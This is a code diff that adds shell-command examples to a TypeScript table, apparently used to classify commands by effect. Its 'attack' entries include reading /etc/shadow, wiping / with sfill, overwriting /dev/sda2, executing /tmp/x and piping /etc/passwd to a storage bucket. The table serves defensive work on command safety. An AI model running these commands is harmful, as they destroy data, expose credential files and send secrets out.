@@ -313,4 +313,18 @@ export const fileTools: ExampleTable = {
     use: `when-changed src 'cat notes.txt' → read notes.txt`,
     attack: `when-changed src 'cat /etc/shadow' → read /etc/shadow`,
   },
+  fd: {
+    use: 'fd -e md . docs → nothing',
+    attack: 'fd passwd -x cat /etc/shadow → read /etc/shadow',
+  },
+  sfill: { attack: 'sfill / → destroy /' },
+  sswap: { attack: 'sswap /dev/sda2 → write /dev/sda2' },
+  'mc find': {
+    use: `mc find play/bucket --name '*.md' → nothing`,
+    attack: 'mc find play/bucket --exec /tmp/x → run /tmp/x',
+  },
+  'mc pipe': {
+    use: 'echo hello | mc pipe play/bucket/hello.txt → send play/bucket/hello.txt',
+    attack: 'cat /etc/passwd | mc pipe play/bucket/x → send play/bucket/x',
+  },
 }
